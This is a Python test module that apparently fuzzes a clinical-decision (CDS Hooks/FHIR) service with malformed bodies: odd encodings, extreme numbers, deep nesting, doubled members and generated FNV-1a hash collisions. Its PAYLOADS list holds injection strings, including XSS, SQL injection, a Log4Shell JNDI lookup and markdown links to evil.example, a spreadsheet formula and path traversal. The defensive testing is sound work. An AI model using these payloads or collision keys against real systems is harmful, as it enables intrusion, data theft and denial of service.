"""
Bodies as bytes: encodings, numbers, nesting, doubled members, colliding keys; and texts that bite.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable, Iterator
from typing import Any, Final

from tests.attacks.good import HOOKS, MARK, Request, raw
from tests.attacks.prefetch import resources
from tests.attacks.table import ANSWERED, BAD, ODD, Change, Row

__all__ = ["PAYLOADS", "collisions", "doubled", "encodings", "nested", "numbers", "payloads"]


# --- encodings (T25) ----------------------------------------------------------------

_CODECS: Final = (
    *("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-8-sig", "utf-7"),
    *("latin-1", "cp1252", "cp037", "mac-roman", "gb18030"),
)


def encodings() -> Iterator[Row]:
    """Yield twelve encodings that are not UTF-8, and UTF-8 that is none."""
    for codec in _CODECS:
        yield Row(f"in {codec}", _in(codec), ODD if codec == "utf-7" else BAD)
    overlong = b"\xc0\xaf"
    for name, piece in {
        "a lone byte": b"\xff",
        "an overlong form": overlong,
        "a surrogate in bytes": b"\xed\xa0\x80",
        "half a character": b"\xe2\x82",
        "beyond Unicode": b"\xf5\x80\x80\x80",
        "a lone surrogate": b"\\ud800",
        "surrogates in the wrong order": b"\\udc00\\ud800",
        "a raw NUL": b"\0",
        "a raw line break": b"\n",
        "an unknown escape": b"\\x41",
    }.items():
        for where in ("userId", "display", "access_token", "id"):
            yield Row(f"{name} in {where}", _spliced(where, piece), BAD)
    for where in ("userId", "display", "access_token", "id", "hookInstance", "reference", "unit"):
        yield Row(f"a NUL in {where}", _spliced(where, b"\\u0000"), ODD)
        yield Row(f"an override of direction in {where}", _spliced(where, b"\\u202e"), ODD)
    yield Row("compressed", lambda request: gzip.compress(raw(request)))
    yield Row("a mark of byte order", lambda request: b"\xef\xbb\xbf" + raw(request))
    yield Row("two bodies", lambda request: raw(request) * 2)
    yield Row("something behind", lambda request: raw(request) + b"\0")
    yield Row("blanks alone", lambda _: b" \t\r\n" * 1_000)
    yield Row("NULs alone", lambda _: b"\0" * 1_000)
    yield Row("XML", lambda _: b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>")
    yield Row("a form", lambda _: f"hook=patient-view&patientId={MARK}".encode())
    yield Row("comments", lambda request: b"/* x */" + raw(request))
    yield Row("half of it", lambda request: raw(request)[:-200])
    yield Row("a comma too many", lambda request: raw(request)[:-1] + b",}")
    yield Row("single quotation marks", lambda request: raw(request).replace(b'"', b"'"))


def _in(codec: str) -> Callable[[Request], bytes]:
    def change(request: Request) -> bytes:
        request["context"]["userId"] = "Practitioner/\u00e9"
        return json.dumps(request, ensure_ascii=False).encode(codec)

    return change


def _spliced(member: str, piece: bytes) -> Callable[[Request], bytes]:
    """Put bytes into the first text that a member of this name holds."""

    def change(request: Request) -> bytes:
        text = raw(request)
        name = f'"{member}": "'.encode()
        assert name in text
        return text.replace(name, name + piece, 1)

    return change


# --- numbers (T24) ------------------------------------------------------------------

_NUMBERS: Final = {
    **dict.fromkeys(("NaN", "Infinity", "-Infinity", "1e999", "-1e999", "1e300000", "1e-400"), BAD),
    **dict.fromkeys(("1" * 100_000, "0." + "1" * 100_000, "1e21", "1e-21", "-" + "9" * 40), BAD),
    **dict.fromkeys(("01", "+1", "1.", ".5", "0x10", "1_000", "1e", "--1", "1e+", "1,5"), BAD),
    **dict.fromkeys(
        ("-0", "-0.0", "0e0", "1E+2", "1e20", "9" * 18, "0." + "0" * 19 + "1"), ANSWERED
    ),
}


def numbers() -> Iterator[Row]:
    """Yield what may stand for a number and is none, or none of ours."""
    for text, expected in _NUMBERS.items():
        yield Row(f"the number {text[:24]} ({len(text)})", _numbered(text), expected)


def _numbered(text: str) -> Callable[[Request], bytes]:
    def change(request: Request) -> bytes:
        for one in resources(request):
            if "valueQuantity" in one:
                one["valueQuantity"]["value"] = "@@"
        return raw(request).replace(b'"@@"', text.encode())

    return change


# --- nesting (T22) ------------------------------------------------------------------


def nested() -> Iterator[Row]:
    """Yield depth at the limit and beyond, opened and never closed, wide and narrow."""
    for opens, closes in (("[", "]"), ('{"a":', "}")):
        for levels, expected in (
            (63, ANSWERED),
            (64, BAD),
            (65, BAD),
            (5_000, BAD),
            (200_000, BAD),
        ):
            inner = opens * levels + "1" + closes * levels
            yield Row(f"{levels} times {opens}", _unknown(inner), expected)
        yield Row(f"{opens} never closed", lambda _, opens=opens: opens.encode() * 100_000)
        yield Row(f"{closes} alone", lambda _, closes=closes: closes.encode() * 100_000)
    yield Row("a wide list", _unknown("[" + "[]," * 150_000 + "[]]"), ANSWERED)
    yield Row("too wide a list", _unknown("[" + "[]," * 250_000 + "[]]"), BAD)
    deep = {"resourceType": "Basic"}
    for _ in range(20):
        deep = {"resourceType": "Basic", "contained": [deep]}
    yield Row("contained in contained", _contained(deep), ODD)


def _unknown(text: str) -> Callable[[Request], bytes]:
    return lambda request: raw({**request, "unknown": "@@"}).replace(b'"@@"', text.encode())


def _contained(one: Any) -> Callable[[Request], None]:
    def change(request: Request) -> None:
        for each in resources(request):
            each["contained"] = [one]

    return change


# --- members that stand twice (T23), and keys that collide (T26) --------------------


def doubled() -> Iterator[Row]:
    """Yield members named twice, at every depth, alike and not."""
    for member in (
        *("hook", "hookInstance", "context", "prefetch", "fhirServer", "patientId", "userId"),
        *("access_token", "patient", "glycaemia", "resourceType", "reference", "value", "id"),
    ):
        for name, value in {"another": b'"x"', "null": b"null"}.items():
            yield Row(f"{member} twice, first {name}", _twice(member, value), BAD)
    yield Row("a member twice, once escaped", _escaped, BAD)


def _twice(member: str, value: bytes) -> Callable[[Request], bytes]:
    def change(request: Request) -> bytes:
        name = f'"{member}": '.encode()
        text = raw(request)
        assert name in text
        return text.replace(name, name + value + b", " + name, 1)

    return change


def _escaped(request: Request) -> bytes:
    return raw(request).replace(b'"hook": ', b'"\\u0068ook": "order-sign", "hook": ', 1)


def collisions() -> Iterator[Row]:
    """Yield thousands of names that hash alike under FNV-1a of 32 bits."""
    names = _colliding()

    def prefetch(many: int) -> Change:
        return lambda request: request["prefetch"].update(dict.fromkeys(names[:many]))

    def codes(request: Request) -> None:
        for one in resources(request):
            if isinstance(one.get("code"), dict):
                one["code"]["coding"] += [{"system": MARK, "code": name} for name in names[:300]]

    def everywhere(request: Request) -> None:
        for holder in (request, request["context"], request["prefetch"]["patient"]):
            holder.update(dict.fromkeys(names, 1))

    yield Row("keys of prefetch that collide", prefetch(900), ANSWERED)
    yield Row("more keys of prefetch that collide", prefetch(len(names)), (413,))
    yield Row("codes that collide", codes, ANSWERED)
    yield Row("members that collide", everywhere, ANSWERED)


_PAIRS: Final = (
    *("d7038", "1d18d", "bec20", "4a0f5", "52938", "198eb", "89aa0", "19f8a", "489c8", "0789b"),
    *("67828", "289db", "89aa0", "19f8a", "489c8", "0789b", "67828", "289db", "89aa0", "19f8a"),
    *("489c8", "0789b", "67828", "289db"),
)
"""Behind what stands before it, each is hashed like the next one."""


def _colliding() -> list[str]:
    """Make thousands of texts of one FNV-1a hash: a choice of two at every step (Joux)."""
    names = [""]
    for one, other in zip(_PAIRS[::2], _PAIRS[1::2], strict=True):
        names = [name + block for name in names for block in (one, other)]
    assert 1 == len({fnv1a(one) for one in names[:: len(names) // 7]})
    return names


def fnv1a(text: str) -> int:
    """Hash a text as the rule engine hashes names."""
    found = 0x811C9DC5
    for byte in text.encode():
        found = ((found ^ byte) * 0x01000193) & 0xFFFFFFFF
    return found


# --- texts that bite (T41, T48) -----------------------------------------------------

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "[click](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    "https://evil.example/",
    "# A heading\n\nand a line",
    "---\nA heading\n===",
    "```\ncode\n```",
    "| a | b |\n|---|---|\n| c | d |",
    "- [ ] a task\n1. a list\n> a quotation",
    "**bold** _it_ ~~gone~~ `code`",
    "[ref]: https://evil.example 'x'\n[ref]",
    "&lt;script&gt;&#106;avascript",
    "{{context.patientId}} {{patient.id}} {0.__class__} {{7*7}} ${7*7} %n %s",
    "\u202eevil\u202c \u200b\u2028\u2029\u0085\ufeff",
    '\x1b[31mred\x1b[0m \r\n{"event": "forged"}',
    "=cmd|' /C calc'!A0",
    "' OR 1=1; --",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd\0",
    "A\u0301\u0301\u0301" * 200,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
)
_CODED: Final = frozenset(
    {"resourceType", "hook", "hookInstance", "patientId", "reference", "system", "status", "code"}
    | {"gender", "birthDate", "id", "userId", "effectiveDateTime", "intent", "authoredOn"}
)


def payloads() -> Iterator[Row]:
    """Yield texts that bite in every free text, and in every text at all but a few."""
    for position, payload in enumerate(PAYLOADS):
        hooks = (HOOKS[position % len(HOOKS)], HOOKS[(position + 4) % len(HOOKS)])
        yield Row(f"payload {position} in free texts", _filled(payload, _CODED), ODD, hooks=hooks)
        kept = frozenset({"resourceType", "hook", "hookInstance", "patientId"})
        yield Row(f"payload {position} in all texts", _filled(payload, kept), ODD, hooks=hooks[:1])


def _filled(payload: str, kept: frozenset[str]) -> Callable[[Request], None]:
    def fill(value: Any) -> None:
        some = value.items() if isinstance(value, dict) else enumerate(value)
        for key, one in list(some):
            if isinstance(one, dict | list):
                fill(one)
            elif isinstance(one, str) and key not in kept:
                value[key] = f"{payload} {MARK}"

    def change(request: Request) -> None:
        fill(request["prefetch"])
        fill(request["context"])
        request["context"].setdefault("userId", "x")
        for name in ("userId", "encounterId", "performer"):
            if name in request["context"]:
                request["context"][name] = f"Practitioner/{MARK}".removeprefix(
                    "Practitioner/" if name == "encounterId" else ""
                )

    return change
